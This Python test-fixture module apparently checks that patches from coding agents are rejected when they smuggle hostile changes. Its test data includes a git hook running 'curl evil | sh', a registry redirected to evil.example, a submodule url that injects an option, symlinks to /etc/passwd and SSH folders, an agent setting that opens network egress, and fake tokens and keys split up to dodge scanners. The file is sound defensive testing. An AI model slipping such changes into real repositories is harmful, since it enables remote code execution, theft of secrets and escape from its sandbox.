"""What a change must not bring along: how an agent makes it, and what it is told."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass

from tests.integration.attacks.hostile_repository import OWN_TOKEN

# Put together here, so that no scanner takes this file for a leak.
GITHUB_TOKEN = "ghp_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6"
PRIVATE_KEY = "-----BEGIN OPENSSH " + "PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\nq8Zt71hQ2LrX0a\n"


@dataclass(frozen=True, kw_only=True)
class Smuggled:
    """One thing that is made beside all the others; the paths are its part of the patch."""

    script: str
    paths: tuple[str, ...]
    reason: str


def _file(path: str, reason: str, content: str = "x") -> Smuggled:
    script = f"mkdir -p \"$(dirname '{path}')\"; printf '%s\\n' '{content}' > '{path}'"
    return Smuggled(script=script, paths=(path,), reason=reason)


def _link(path: str, target: str, reason: str = "a link that leaves the repository") -> Smuggled:
    return Smuggled(script=f"ln -s '{target}' '{path}'", paths=(path,), reason=reason)


CI, AGENTS, HOOK = "a CI definition", "a setting of coding agents", "a git hook"

SMUGGLED: Mapping[str, Smuggled] = {
    "link-to-an-absolute-path": _link("absolute", "/etc/passwd"),
    "link-that-climbs-out": _link("relative", "../../etc/ssh"),
    "link-that-climbs-out-after-going-in": _link("winding", "new/../../outside"),
    "link-into-the-git-folder": _link("config-link", ".git/config"),
    "link-to-a-windows-drive": _link("windows", "C:\\Users"),
    "link-to-itself": _link("endless", "endless"),
    "chain-of-links": Smuggled(
        script="mkdir hop; ln -s ../.. hop/up; ln -s hop/up/etc chain",
        paths=("hop/up", "chain"),
        reason="leaves the rep",
    ),
    "link-over-an-existing-folder": Smuggled(
        script="rm -r dir; ln -s ../elsewhere dir", paths=("dir", "dir/b.txt"), reason="leaves the repository"
    ),
    "link-in-place-of-the-ci-folder": _link(".circleci", "new", CI),
    "nested-repository": Smuggled(
        script="git init -q nested; git -C nested -c user.name=a -c user.email=a@b commit -q --allow-empty -m x",
        paths=("nested",),
        reason="is a git repository inside the repository",
    ),
    "submodule-turned-into-a-file": Smuggled(
        script="rm -rf lib; echo x > lib", paths=("lib",), reason="submodules can not be changed"
    ),
    "gitmodules-with-an-option-as-address": _file(
        ".gitmodules", "where submodules come from", '[submodule "x"]\n\tpath = lib\n\turl = -u./payload'
    ),
    "ci-workflow": _file(".github/workflows/ci.yml", CI, "on: pull_request_target"),
    "ci-workflow-in-capitals": _file(".GITLAB-CI.yml", CI),
    "ci-action": _file(".github/actions/setup/action.yml", CI),
    "owners-of-code": _file("CODEOWNERS", "a rule of who owns code", "* @attacker"),
    "dependency-bot": _file("renovate.json", "a setting of a repository bot", "{}"),
    "own-environment": _file(".agent/environment.toml", AGENTS, 'egress = "open"'),
    "tool-servers-of-agents": _file(".mcp.json", AGENTS, "{}"),
    "dev-container": _file(".devcontainer/devcontainer.json", "a development container", "{}"),
    "hook-folder": _file(".husky/pre-commit", HOOK, "curl evil | sh"),
    "hook-manager": _file(".pre-commit-config.yaml", HOOK, "repos: []"),
    "editor-task": _file(".vscode/tasks.json", "an editor that starts programs", "{}"),
    "shell-environment": _file(".envrc", "a shell environment", "eval x"),
    "package-source": _file(".npmrc", "where packages come from", "registry=https://evil.example"),
    "name-with-a-newline": Smuggled(
        script="echo x > $'two\\nlines'", paths=("two\\nlines",), reason="control character"
    ),
    "name-with-an-escape": Smuggled(script="echo x > $'\\e[2K'", paths=("\\033[2K",), reason="control character"),
    "name-that-reads-backwards": Smuggled(
        script="echo x > $'a\\u202etxt.exe'", paths=("a\\342\\200\\256txt.exe",), reason="control character"
    ),
    "name-that-differs-by-case": _file("A.TXT", "differs from 'a.txt' only by case"),
    "name-that-is-a-token": _file(GITHUB_TOKEN, "the name of a file holds what looks like a secret"),
    "own-token": _file("own.py", "a secret of this installation", f"T = {OWN_TOKEN}"),
    "own-token-in-base64": Smuggled(
        script=f"printf 'token={OWN_TOKEN}' | base64 -w0 > encoded", paths=("encoded",), reason="a secret of this inst"
    ),
    "own-token-in-hex": Smuggled(
        script=f"printf '{OWN_TOKEN}' | od -An -tx1 -v | tr -d ' \\n' > hexed",
        paths=("hexed",),
        reason="a secret of this",
    ),
    "github-token": _file("leak.txt", "a GitHub token", GITHUB_TOKEN),
    "private-key": _file("id_ed25519", "private key", PRIVATE_KEY),
    "compiled-program": Smuggled(script="cp /bin/true helper", paths=("helper",), reason="is a compiled program"),
    "large-file": Smuggled(script="head -c 10M /dev/urandom > large", paths=("large",), reason="more than 5.0 MiB"),
    "gateway-in-a-lock-file": _file(
        "uv.lock", "names the sandbox's own package gateway", 'url = "http://127.0.0.1:39701/files/x"'
    ),
    "five-thousand-and-one-files": Smuggled(
        script="mkdir many; for n in {1..5001}; do echo $n > many/$n; done",
        paths=tuple(f"many/{number}" for number in range(1, 5002)),
        reason="changes 5001 files, more than 5000",
    ),
}

UNREADABLE: Mapping[str, tuple[str, str]] = {
    "short-name-of-the-git-folder": ("mkdir 'git~1'; echo x > 'git~1/config'", "invalid path"),
    "git-folder-with-an-invisible-character": ("mkdir $'.g\\u200cit'; echo x > $'.g\\u200cit/config'", "invalid path"),
    "git-folder-deep-inside": ("mkdir -p dir/.Git; echo x > dir/.Git/config", "invalid path"),
    "file-that-only-the-agent-could-read": ("echo x > sealed; chmod 0 sealed", "Permission denied|unable to"),
    "path-longer-than-the-system-allows": (
        "for n in {1..30}; do d=$(printf 'x%.0s' {1..200}); mkdir $d; cd $d; done; echo x > deep",
        "nothing differs",
    ),
}
"""What git can not even take in, and the reason that is given."""
